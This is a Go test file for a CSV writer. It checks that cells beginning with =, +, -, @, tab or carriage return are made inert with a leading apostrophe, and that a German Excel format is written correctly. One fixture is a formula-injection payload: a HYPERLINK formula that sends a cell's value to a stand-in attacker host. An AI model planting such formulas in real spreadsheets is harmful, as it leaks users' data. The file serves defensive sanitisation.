package csvout

import (
	"bytes"
	"encoding/csv"
	"testing"
)

func TestFormulasAreMadeInert(t *testing.T) {
	rows := [][]string{{"name", "net_ha"}, {`=HYPERLINK("http://evil.example/"&A1,"click")`, "-3.5"},
		{"+1+1", "@SUM(A1)"}, {"\tx", "\rx"}, {"-x", "Fläche A"}, {"", "1e3"}}
	var buf bytes.Buffer
	if err := Write(&buf, rows); err != nil {
		t.Fatal(err)
	}
	got, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{{"name", "net_ha"}, {`'=HYPERLINK("http://evil.example/"&A1,"click")`, "-3.5"},
		{"'+1+1", "'@SUM(A1)"}, {"'\tx", "'\rx"}, {"'-x", "Fläche A"}, {"", "1e3"}}
	for i := range want {
		for j := range want[i] {
			if got[i][j] != want[i][j] {
				t.Errorf("row %d cell %d: %q, want %q", i, j, got[i][j], want[i][j])
			}
		}
	}
}

// TestGermanExcel: a file German Excel opens right by double click, with formulas made inert and
// negative decimal-comma numbers kept as numbers.
func TestGermanExcel(t *testing.T) {
	var buf bytes.Buffer
	if err := WriteAs(&buf, GermanExcel, [][]string{{"Fläche", "netto ha"}, {"=1+1", "-3,5"}}); err != nil {
		t.Fatal(err)
	}
	if want := "\ufeffFläche;netto ha\r\n'=1+1;-3,5\r\n"; buf.String() != want {
		t.Errorf("got %q, want %q", buf.String(), want)
	}
}
